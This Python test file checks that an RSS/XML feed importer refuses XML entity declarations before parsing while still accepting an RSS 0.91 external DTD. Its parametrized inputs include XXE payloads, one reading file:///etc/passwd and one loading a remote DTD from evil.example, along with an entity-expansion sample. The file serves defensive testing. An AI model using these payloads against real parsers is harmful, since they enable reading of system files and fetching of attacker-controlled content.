"""Tests for clippings.importer.xmlsafe: entity declarations are refused before parsing."""

from __future__ import annotations

from pathlib import Path

import pytest

from clippings.errors import InputError
from clippings.importer.model import Article
from clippings.importer.sources import feed
from clippings.importer.xmlsafe import check_prolog, read_head

P = Path("feed.xml")


RSS091 = (
    b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
    b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel>'
    b"<title>Outlet</title><link>https://o.example/</link><item><title>Item one</title>"
    b"<link>https://o.example/1</link><pubDate>Sun, 09 Nov 2025 08:00:00 GMT</pubDate>"
    b"<description>Body.</description></item></channel></rss>"
)


def test_plain_xml_and_rss091_doctype_pass(tmp_path: Path) -> None:
    assert check_prolog(P, b'<?xml version="1.0"?><rss/>') is None
    assert check_prolog(P, RSS091) is None
    # An external DTD reference is allowed, and the feed behind it is read.
    path = tmp_path / "rss091.xml"
    path.write_bytes(RSS091)
    (article,) = feed.parse(path)
    assert isinstance(article, Article) and article.title == "Item one"


@pytest.mark.parametrize(
    "head",
    [
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">]><lolz>&lol;</lolz>',
        b'<?xml version="1.0"?>\n<!doctype x [\n<!entity xxe SYSTEM "file:///etc/passwd">]><x/>',
        b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    ],
)
def test_entity_declarations_are_refused_with_line(head: bytes) -> None:
    with pytest.raises(InputError, match=r"feed\.xml: line 2: XML entity declarations"):
        check_prolog(P, head)


def test_read_head_errors(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot read"):
        read_head(tmp_path / "missing.xml")
